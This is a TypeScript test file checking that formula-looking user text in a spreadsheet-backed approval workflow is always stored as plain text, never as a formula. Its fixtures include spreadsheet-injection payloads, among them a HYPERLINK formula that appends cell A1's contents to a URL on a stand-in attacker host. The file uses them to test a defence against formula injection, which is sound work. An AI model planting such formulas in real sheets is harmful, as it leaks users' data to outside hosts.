/**
 * User text that looks like a formula (starts with =, +, - or @) lands in the sheet as that text, never a formula,
 * on every path that writes user text, through dist/Code.js: a request's fields from the sidebar, an approver's
 * comment (through the web app), an operator's reason (override, resend, bulk), a requester's cancel reason, a
 * Directory entry saved from the panel, a workflow published with such a name. (Form responses: test/unit/gas/intake.)
 */
import { auditRecords } from '../support/audit-view';
import { purchaseApproval } from '../../src/templates';
import { PEOPLE, RITA, MAX, laptop } from '../unit/gas/fixtures';
import { OWNER } from '../unit/gas/workspace';
import { loadBundle, type Harness } from './harness';

const OLGA = 'olga@acme.test';

/**
 * Text each path writes. The local Sheets parses only `=` as a formula (src/local/README.md), so every path writes
 * an `=` text of its own, which a write without neutralising would turn into a formula here too; the `+`, `-` and
 * `@` forms ride along in a request and must come back as the same text.
 */
const TEXT = {
  item: '=HYPERLINK("https://evil.example/?"&A1,"click")',
  comment: '=1+1',
  resend: '=SUM(1,2)',
  bulk: '=A1',
  cancel: '=IMAGE("https://evil.example/x.png")',
  person: '=CONCAT("a","b")',
  workflow: '=TODAY()',
  plus: '+SUM(1,2)',
  minus: '-2+3',
  at: '@SUM(1,2)',
};

function world(): Harness {
  const h = loadBundle(OWNER);
  h.call('handoffSetUp');
  h.sheet.write('Directory', 'A3', [...PEOPLE, [OLGA, 'Olga Operator', 'operator', '', '', '', '', '', '']]);
  h.call('handoffPublishWorkflow', [purchaseApproval]);
  return h;
}

/** Every formula on every tab of the governed spreadsheet, as `tab!row,col: formula`. */
function formulas(h: Harness): string[] {
  return h.ws.kernel.meter.unmetered(() => {
    const ss = h.services.SpreadsheetApp.openById(h.spreadsheetId);
    return ss.getSheets().flatMap((s) =>
      s
        .getDataRange()
        .getFormulas()
        .flatMap((row, r) => row.map((f, c) => (f ? `${s.getName()}!${r + 1},${c + 1}: ${f}` : '')).filter(Boolean)),
    );
  });
}

/** Every cell that holds exactly one of `texts`, with its tab and whether it was written with Sheets' quote prefix. */
function cellsHolding(h: Harness, texts: string[]): Array<{ tab: string; text: string; quoted: boolean; formula: boolean }> {
  const ss = h.ws.sheets.toJSON().spreadsheets.find((x) => x.id === h.spreadsheetId)!;
  return ss.sheets.flatMap((sh) =>
    sh.rows.flatMap((row) =>
      (row ?? []).flatMap((c) => {
        const text = typeof c?.v === 'string' ? c.v : (c?.f ?? null);
        return text !== null && texts.includes(text) ? [{ tab: sh.name, text, quoted: c?.q === true, formula: c?.f !== undefined }] : [];
      }),
    ),
  );
}

describe('formula-looking user text is stored as text on every path that writes it', () => {
  it('request fields, comments, reasons, a Directory entry and a workflow name', () => {
    const h = world();
    // A request from the sidebar, its text fields formula-looking.
    const fields = { ...laptop, item: TEXT.item, justification: TEXT.at, costCenter: 'Engineering' };
    const created = h.call<{ request: { id: string; revision: number } }>(
      'handoffCreateRequest',
      [{ workflowId: 'purchase-approval', fields }],
      { as: RITA },
    );
    const id = created.request.id;

    // An approver's comment, through the web app (the sidebar's relay: Max may not write the sheet).
    h.ws.webapp.deploy({ access: 'ANYONE_ANONYMOUS' });
    h.ws.sheets.get(h.spreadsheetId).share(MAX, 'editor');
    const asMax = { as: MAX, runAs: MAX, kind: 'script-run' as const };
    const work = h.call<{ items: Array<{ id: string; revision: number }> }>('handoffPanelMyWork', [{}], asMax);
    const item = work.items.find((i) => i.id === id)!;
    h.call(
      'handoffPanelAct',
      [{ requestId: id, expectedRevision: item.revision, action: { type: 'approve', comment: TEXT.comment } }],
      asMax,
    );

    // An operator's reasons: resend and a bulk reminder.
    const asOlga = { as: OLGA };
    h.call('handoffPanelResend', [{ requestId: id, reason: TEXT.resend }], asOlga);
    h.call('handoffPanelBulk', [{ requestIds: [id], op: 'remind', reason: TEXT.bulk }], asOlga);

    // A second request, cancelled by its requester with a formula-looking reason.
    const second = h.call<{ request: { id: string; revision: number } }>(
      'handoffCreateRequest',
      [{ workflowId: 'purchase-approval', fields: { ...laptop, item: TEXT.plus, justification: TEXT.minus } }],
      { as: RITA },
    );
    h.call(
      'handoffPanelAct',
      [{ requestId: second.request.id, expectedRevision: second.request.revision, action: { type: 'cancel', reason: TEXT.cancel } }],
      {
        as: RITA,
      },
    );

    // The admin's panel: a person whose name looks like a formula, and a workflow named like one.
    h.call('handoffPanelSavePerson', [{ email: 'new@acme.test', name: TEXT.person, roles: [] }]);
    h.call('handoffPanelPublishWorkflow', [{ definition: { ...purchaseApproval, name: TEXT.workflow } }]);

    expect(formulas(h)).toEqual([]);
    // No cell holds any of them as a formula: each is the exact text (a quote prefix from setValues, or a string
    // value from the data plane's batchUpdate).
    const held = cellsHolding(h, Object.values(TEXT));
    expect(held.filter((c) => c.formula)).toEqual([]);
    // And each landed where it belongs, as the exact text typed.
    const where = new Set(held.map((c) => `${c.tab}: ${c.text}`));
    expect([...where].sort()).toEqual(
      expect.arrayContaining([
        `Requests: ${TEXT.item}`, // the request's item, in its readable column
        `Requests: ${TEXT.plus}`, // the second request's item
        `Directory: ${TEXT.person}`, // the person's name
        `Config: ${TEXT.workflow}`, // the workflow's name
      ]),
    );
    // Audit keeps the event's texts inside its Details JSON cell (it starts with "{": never a formula): the
    // approver's comment, the resend, bulk reminder and cancel reasons read back as the exact text typed.
    const audit = auditRecords(h.sheet.values('Audit'));
    expect(audit.map((r) => r.Comment)).toContain(TEXT.comment);
    for (const reason of [TEXT.resend, TEXT.bulk, TEXT.cancel]) expect(audit.map((r) => r.Reason)).toContain(reason);
  });
});
